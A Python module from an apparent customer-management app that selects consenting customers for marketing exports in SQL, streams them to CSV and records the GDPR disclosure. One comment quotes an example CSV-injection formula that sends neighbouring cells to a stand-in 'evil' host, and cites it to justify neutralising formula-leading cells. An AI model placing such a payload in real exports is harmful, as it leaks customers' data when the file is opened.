"""The marketing selection as SQL: who an export contains, streamed into a file, and the
disclosure that records it.

The rules (see :mod:`kkdesk.services.marketing` for what they mean) run as one SQL statement
on the database (SQLite or PostgreSQL), built from the same mapping
:meth:`~kkdesk.domain.consent.ConsentState.allows` uses. The statement is read once,
streamed: each batch of rows goes straight into the file and only the chosen customers' ids
are kept (8 bytes each); :func:`record_disclosure` then records exactly those ids with one
``INSERT ... SELECT`` from the id list. The service decides when (and whether) each runs.
"""

from __future__ import annotations

import csv
from array import array
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime
from operator import itemgetter
from typing import TextIO, cast

from sqlalchemy import Table, insert, text
from sqlalchemy.engine import Connection
from sqlalchemy.exc import DBAPIError

from kkdesk.domain.consent import (
    ConsentItem,
    MarketingChannel,
    MarketingPurpose,
    forbidding_items,
)
from kkdesk.errors import RuleViolation
from kkdesk.store import stamps
from kkdesk.store.models import Disclosure as DisclosureRow

# Rows per fetch from the driver's cursor: also how often the caller hears of progress.
BATCH = 5000

# First characters that make a spreadsheet run a cell as a formula (OWASP, "CSV
# injection"): `=HYPERLINK("http://evil/?"&A2, "Click")` as a company name would send the
# neighbouring cells away when the file is opened. Such a cell is written with a leading
# apostrophe, which spreadsheets read as "text" and programs can strip.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cell(expr: str, *, phone: bool = False) -> str:
    """SQL for the value of ``expr`` as a CSV cell that no spreadsheet runs as a formula.

    Done in SQL, where the rows are made, rather than per cell in Python: it costs the
    export almost nothing. An E.164 phone number (``+`` and digits only: the form kkdesk
    stores) stays as it is in the phone column, because SMS gateways read it as data and
    a spreadsheet can only compute a number from it (no function, no reference); any other
    phone value starting with ``+`` — something written outside kkdesk — is neutralised.
    """
    starts = ", ".join(f"'{c}'" for c in FORMULA_STARTS)  # our own constants, no input
    keep = (
        f" AND NOT (substr({expr}, 1, 1) = '+' AND length({expr}) > 1"
        f" AND ltrim(substr({expr}, 2), '0123456789') = '')"
        if phone
        else ""
    )
    quote = "''''"  # SQL for a string of one apostrophe
    return (
        f"CASE WHEN substr({expr}, 1, 1) IN ({starts}){keep} THEN {quote} || {expr} ELSE {expr} END"
    )


# Columns of the file per channel: only what that channel needs (data minimisation).
_NAME = _cell(
    "CASE WHEN c.type = 'company' THEN c.company_name ELSE c.first_names || ' ' || c.surname END"
)
COLUMNS: dict[MarketingChannel, tuple[tuple[str, str], ...]] = {
    MarketingChannel.POST: (
        ("customer_number", _cell("c.number")),
        ("name", _NAME),
        ("street", _cell("c.street")),
        ("postal_code", _cell("c.postal_code")),
        ("post_office", _cell("c.post_office")),
        ("country", _cell("c.country")),
        ("language", _cell("c.language")),
    ),
    MarketingChannel.EMAIL: (
        ("customer_number", _cell("c.number")),
        ("name", _NAME),
        ("email", _cell("c.email")),
        ("language", _cell("c.language")),
    ),
    MarketingChannel.SMS: (
        ("customer_number", _cell("c.number")),
        ("name", _NAME),
        ("phone", _cell("c.phone_mobile", phone=True)),
        ("language", _cell("c.language")),
    ),
}

_USABLE = {
    MarketingChannel.POST: "c.street <> '' AND c.postal_code <> '' AND c.post_office <> ''",
    MarketingChannel.EMAIL: "c.email <> ''",
    MarketingChannel.SMS: "c.phone_mobile <> ''",
}
_PHONE_COLUMNS = ("phone_home", "phone_work", "phone_mobile")
_CONTACT_PHONE_COLUMNS = ("phone_work", "phone_mobile")


def _lit(items: list[ConsentItem]) -> str:
    # Enum values from our own vocabulary, never user input: safe as SQL literals.
    return ", ".join(f"'{i.value}'" for i in items)


def _probe(keys: str, table: str, columns: tuple[str, ...]) -> str:
    """Ids of the rows of ``table`` holding in one of ``columns`` a key listed in the
    (sorted) CTE ``keys``. CROSS JOIN keeps the key list outside, so that each key is
    one seek in the column's index, in key order — instead of a sorted copy of the list
    per column, or a pass over the whole register."""
    return "\n  UNION ALL ".join(
        f"SELECT x.id FROM {keys} k CROSS JOIN {table} x WHERE x.{col} = k.v" for col in columns
    )


def _keys_of(records: str, customers: str, contacts: str) -> list[str]:
    """CTEs ``{records}_e(v)`` and ``{records}_p(v)``: the e-mail addresses and phone
    numbers of the live customers whose ids are in ``customers`` and the contact persons
    whose ids are in ``contacts`` — one row lookup per record, not one per key column."""
    return [
        f"""{records} (e, h, w, m) AS MATERIALIZED (
  SELECT c.email_key AS e, c.phone_home AS h, c.phone_work AS w, c.phone_mobile AS m
  FROM customer c WHERE c.id IN ({customers}) AND c.erased_at IS NULL
  UNION ALL
  SELECT p.email_key, '', p.phone_work, p.phone_mobile
  FROM contact_person p JOIN customer c ON c.id = p.customer_id
  WHERE p.id IN ({contacts}) AND c.erased_at IS NULL)""",
        f"""{records}_e (v) AS MATERIALIZED (
  SELECT DISTINCT e FROM {records} WHERE e <> '' ORDER BY 1)""",
        f"""{records}_p (v) AS MATERIALIZED (
  SELECT h FROM {records} WHERE h <> ''
  UNION SELECT w FROM {records} WHERE w <> ''
  UNION SELECT m FROM {records} WHERE m <> ''
  ORDER BY 1)""",
    ]


# Customers under a restriction of processing (GDPR Art. 18) are never exported: they are
# few, read through the partial index of the restrictions in force. (The central database
# also refuses the disclosure rows of any export that includes one, migration 0019.)
_RESTRICTED = "SELECT customer_id FROM processing_restriction WHERE lifted_at IS NULL"


def _blocked(records: str) -> list[str]:
    """``blocked_e(v)`` and ``blocked_p(v)``: the e-mail addresses and phone numbers no
    export may reach — those of ``records`` (see :func:`_keys_of`) and the suppressed."""
    return [
        f"""blocked_e (v) AS MATERIALIZED (
  SELECT v FROM {records}_e UNION SELECT value FROM supp WHERE kind = 'email' ORDER BY 1)""",
        f"""blocked_p (v) AS MATERIALIZED (
  SELECT v FROM {records}_p UNION SELECT value FROM supp WHERE kind = 'phone' ORDER BY 1)""",
    ]


def _suppressed(keys: str, kind: str, items: str) -> str:
    """The keys of the CTE ``keys`` whose newest suppression entry for one of ``items`` is
    active (as ``supp`` lists them), each looked up on its own through the index
    (key_kind, key_value, item)."""
    return f"""SELECT k.v FROM {keys} k WHERE EXISTS (
    SELECT 1 FROM suppression s
    WHERE s.key_kind = '{kind}' AND s.key_value = k.v AND s.item IN ({items})
      AND s.active = TRUE
      AND NOT EXISTS (SELECT 1 FROM suppression s2
                      WHERE s2.key_kind = s.key_kind AND s2.key_value = s.key_value
                        AND s2.item = s.item AND s2.id > s.id))"""


def selection_sql(
    purpose: MarketingPurpose, channel: MarketingChannel, columns: str = "c.id"
) -> str:
    """One statement listing ``columns`` of exactly the customers an export contains, in
    customer id order (``c`` is the customer).

    Portable SQL for SQLite ≥ 3.35 and PostgreSQL ≥ 12. A record is the customer itself
    (``cp = 0``) or one contact person (``cp`` = its id). Every step is shaped for a
    register of a million: the few records that forbid (opt-out) or allow (opt-in) are
    collected first, and the register's key indexes are probed only with their keys.
    """
    purpose, channel = MarketingPurpose(purpose), MarketingChannel(channel)
    if channel not in _USABLE:
        raise RuleViolation(
            f"No export file for channel {channel}.", code="export_channel", channel=channel
        )
    forbid = forbidding_items(purpose, channel)
    when_on = [i for i, bad in forbid.items() if bad]
    consent = channel.consent
    items = _lit(list(forbid))
    consent_off = f" OR (item = '{consent.value}' AND state = FALSE)" if consent else ""
    # The state of every record in the items that matter: its newest event per item.
    ctes = [
        # (An anti-join on "a newer event of the same record and item" costs half of a
        # window function's sort: most records have one event per item.)
        f"""cur (customer_id, cp, item, state) AS MATERIALIZED (
  SELECT e.customer_id, COALESCE(e.contact_person_id, 0), e.item, e.state
  FROM consent_event e
  WHERE e.item IN ({items}) AND NOT EXISTS (
    SELECT 1 FROM consent_event n
    WHERE n.customer_id = e.customer_id AND n.item = e.item
      AND COALESCE(n.contact_person_id, 0) = COALESCE(e.contact_person_id, 0)
      AND (n.received_on > e.received_on
           OR (n.received_on = e.received_on
               AND (n.recorded_at > e.recorded_at
                    OR (n.recorded_at = e.recorded_at AND n.id > e.id))))))""",
        # Records whose own state forbids it.
        f"""bad (customer_id, cp) AS MATERIALIZED (
  SELECT DISTINCT customer_id, cp FROM cur
  WHERE (item IN ({_lit(when_on)}) AND state = TRUE){consent_off})""",
        # Keys whose newest suppression entry for a forbidding item is active.
        f"""supp (kind, value) AS MATERIALIZED (
  SELECT s.key_kind AS kind, s.key_value AS value FROM suppression s
  WHERE s.item IN ({items}) AND s.active = TRUE
    AND NOT EXISTS (SELECT 1 FROM suppression s2
                    WHERE s2.key_kind = s.key_kind AND s2.key_value = s.key_value
                      AND s2.item = s.item AND s2.id > s.id))""",
    ]
    usable = _USABLE[channel]
    if consent is None:
        # Opt-out: the records that forbid are few. Their keys and the suppressed keys
        # are blocked; every customer holding a blocked key (found through the key
        # indexes) is left out of one pass over the register.
        ctes += _keys_of(
            "badk",
            "SELECT customer_id FROM bad WHERE cp = 0",
            "SELECT cp FROM bad WHERE cp <> 0",
        )
        ctes += _blocked("badk")
        ctes.append(
            "excluded (id) AS MATERIALIZED (\n  SELECT customer_id FROM bad WHERE cp = 0\n"
            f"  UNION ALL {_RESTRICTED}\n"
            "  UNION ALL "
            + _probe("blocked_e", "customer", ("email_key",))
            + "\n  UNION ALL "
            + _probe("blocked_p", "customer", _PHONE_COLUMNS)
            + ")"
        )
        body = f"""SELECT {columns} FROM customer c
WHERE c.erased_at IS NULL AND {usable}
  AND c.id NOT IN (SELECT id FROM excluded)
ORDER BY c.id"""
    else:
        # Opt-in: the records that allow are the few (those with consent). Find, through
        # the key indexes, every other record holding one of the candidates' keys; those
        # that do not allow block their keys, and so does the suppression list.
        ctes.append(
            f"""ok (customer_id, cp) AS MATERIALIZED (
  SELECT customer_id, cp FROM cur
  WHERE item = '{consent.value}' AND state = TRUE
  EXCEPT SELECT customer_id, cp FROM bad)"""
        )
        ctes.append(
            f"""cand (id, email_key, phone_home, phone_work, phone_mobile) AS MATERIALIZED (
  SELECT c.id, c.email_key, c.phone_home, c.phone_work, c.phone_mobile FROM customer c
  JOIN ok ON ok.customer_id = c.id AND ok.cp = 0
  WHERE c.erased_at IS NULL AND {usable} AND c.id NOT IN ({_RESTRICTED}))"""
        )
        ctes.append(
            "cand_e (v) AS MATERIALIZED (\n"
            "  SELECT DISTINCT email_key FROM cand WHERE email_key <> '' ORDER BY 1)"
        )
        ctes.append(
            "cand_p (v) AS MATERIALIZED (\n  "
            + "\n  UNION ".join(
                f"SELECT {col} FROM cand WHERE {col} <> ''" for col in _PHONE_COLUMNS
            )
            + "\n  ORDER BY 1)"
        )
        # Every other record holding a candidate's key, through the key indexes (nearly
        # every hit is an allowing record, usually the candidate itself, and drops out).
        ctes.append(
            "other_c (id) AS MATERIALIZED (\n  "
            + _probe("cand_e", "customer", ("email_key",))
            + "\n  UNION ALL "
            + _probe("cand_p", "customer", _PHONE_COLUMNS)
            + "\n  EXCEPT SELECT customer_id FROM ok WHERE cp = 0)"
        )
        ctes.append(
            "other_p (id) AS MATERIALIZED (\n  "
            + _probe("cand_e", "contact_person", ("email_key",))
            + "\n  UNION ALL "
            + _probe("cand_p", "contact_person", _CONTACT_PHONE_COLUMNS)
            + "\n  EXCEPT SELECT cp FROM ok WHERE cp <> 0)"
        )
        ctes += _keys_of("otherk", "SELECT id FROM other_c", "SELECT id FROM other_p")
        # Only the candidates' own keys are ever looked up in the blocked lists, so only
        # they are looked up in the suppression list, through its index. The whole list
        # of suppressed keys (394,000 at a million customers) cost 8 of the export's 10 s
        # on PostgreSQL: building it, then sorting and hashing it (on disk).
        ctes += [
            f"""blocked_e (v) AS MATERIALIZED (
  SELECT v FROM otherk_e UNION {_suppressed("cand_e", "email", items)} ORDER BY 1)""",
            f"""blocked_p (v) AS MATERIALIZED (
  SELECT v FROM otherk_p UNION {_suppressed("cand_p", "phone", items)} ORDER BY 1)""",
        ]
        # The candidates are few: look their own keys up in the blocked lists.
        ctes.append(
            """chosen (id) AS MATERIALIZED (
  SELECT c.id FROM cand c
  WHERE c.email_key NOT IN (SELECT v FROM blocked_e)
    AND c.phone_home NOT IN (SELECT v FROM blocked_p)
    AND c.phone_work NOT IN (SELECT v FROM blocked_p)
    AND c.phone_mobile NOT IN (SELECT v FROM blocked_p))"""
        )
        body = f"""SELECT {columns} FROM customer c
WHERE c.id IN (SELECT id FROM chosen)
ORDER BY c.id"""
    return "WITH " + ",\n".join(ctes) + "\n" + body


def export_query(purpose: MarketingPurpose, channel: MarketingChannel) -> str:
    """The bare query: the file's rows, straight from the selection (for benchmarks)."""
    cols = ", ".join(f"{expr} AS {name}" for name, expr in COLUMNS[channel])
    return selection_sql(purpose, channel, cols)


def count(conn: Connection, purpose: MarketingPurpose, channel: MarketingChannel) -> int:
    """How many customers the selection holds now."""
    sql = selection_sql(purpose, channel)
    with _roomy_cache(conn):
        return int(conn.execute(text(f"SELECT count(*) FROM ({sql}) s")).scalar_one())


def stream(
    conn: Connection,
    purpose: MarketingPurpose,
    channel: MarketingChannel,
    out: TextIO,
    on_batch: Callable[[int], None] | None = None,
) -> array[int]:
    """Write the selection into ``out`` as CSV (header row first); the ids of the customers
    written, in order.

    ``on_batch(rows_written)`` runs after every batch of :data:`BATCH` rows, on the calling
    thread; an exception it raises (a failure, or the caller's cancellation) stops the read
    at once, closes the cursor and propagates.
    """
    names = [name for name, _ in COLUMNS[channel]]
    cols = "c.id, " + ", ".join(expr for _, expr in COLUMNS[channel])
    ids: array[int] = array("q")
    writer = csv.writer(out)
    writer.writerow(names)
    first, rest = itemgetter(0), itemgetter(slice(1, None))
    dbapi = conn.dialect.loaded_dbapi
    with _roomy_cache(conn):
        # The driver's own cursor: plain tuples straight into the file (a SQLAlchemy Row
        # per customer would cost a tenth of the export), and on PostgreSQL a named —
        # server-side — cursor, so that rows arrive in batches instead of all at once.
        raw = conn.connection.dbapi_connection
        assert raw is not None
        cursor = raw.cursor() if conn.dialect.name == "sqlite" else raw.cursor(name="kkdesk_export")
        try:
            cursor.execute(selection_sql(purpose, channel, cols))
            while part := cursor.fetchmany(BATCH):
                ids.extend(map(first, part))
                writer.writerows(map(rest, part))
                if on_batch is not None:
                    on_batch(len(ids))
        except dbapi.Error as exc:
            # Classified like any other database failure (kkdesk.store.errors).
            raise DBAPIError.instance(None, None, exc, dbapi.Error) from exc
        finally:
            cursor.close()
    return ids


def record_disclosure(
    conn: Connection,
    *,
    disclosed_at: datetime,
    recorded_by: str,
    kind: str,
    purpose: str,
    channel: str,
    recipient: str,
    legal_basis: str,
    description: str,
    ids: array[int],
) -> int:
    """Insert the disclosure and one ``disclosure_customer`` row per id; its id.

    Written once, complete: disclosures are never updated (on PostgreSQL the marketing
    level may only insert them). Core, not the ORM: one row, then one statement for the ids.
    """
    added = conn.execute(
        insert(cast(Table, DisclosureRow.__table__)).values(
            disclosed_at=disclosed_at,
            **stamps.who_when(conn, recorded_by, by="recorded_by"),
            kind=kind,
            purpose=purpose,
            channel=channel,
            recipient=recipient,
            legal_basis=legal_basis,
            description=description,
            customer_count=len(ids),
        )
    )
    assert added.inserted_primary_key is not None
    disclosure_id = int(added.inserted_primary_key[0])
    _record_customers(conn, conn.dialect.name == "sqlite", disclosure_id, ids)
    return disclosure_id


@contextmanager
def _roomy_cache(conn: Connection) -> Iterator[None]:
    """On SQLite, a 64 MB page cache for one export instead of the default 2 MB: the
    selection seeks the key indexes hundreds of thousands of times, and re-reading their
    pages from the operating system is a quarter of its time. Restored afterwards, since
    the connection goes back to the pool."""
    if conn.dialect.name != "sqlite":
        yield
        return
    before = conn.exec_driver_sql("PRAGMA cache_size").scalar_one()
    conn.exec_driver_sql("PRAGMA cache_size = -65536")
    try:
        yield
    finally:
        conn.exec_driver_sql(f"PRAGMA cache_size = {int(before)}")


def _record_customers(
    conn: Connection, is_sqlite: bool, disclosure_id: int, ids: array[int]
) -> None:
    """Insert one ``disclosure_customer`` row per id with a single statement: the ids go in
    as one text parameter the database unpacks (a JSON array on SQLite, an array literal on
    PostgreSQL), which is several times faster than a parameter set per row."""
    if not ids:
        return
    # Built in slices: one str per id at once would briefly hold tens of megabytes.
    step = 100_000
    listed = ",".join(",".join(map(str, ids[i : i + step])) for i in range(0, len(ids), step))
    if is_sqlite:
        sql = "SELECT :did, value FROM json_each(:ids)"
        param = f"[{listed}]"
    else:
        sql = "SELECT :did, unnest(CAST(:ids AS integer[]))"
        param = f"{{{listed}}}"
    del listed
    with _roomy_cache(conn):
        inserted = conn.execute(
            text("INSERT INTO disclosure_customer (disclosure_id, customer_id) " + sql),
            {"did": disclosure_id, "ids": param},
        )
    if inserted.rowcount != len(ids):  # pragma: no cover - would be a bug above
        raise RuntimeError(f"recorded {inserted.rowcount} customers of {len(ids)} exported")
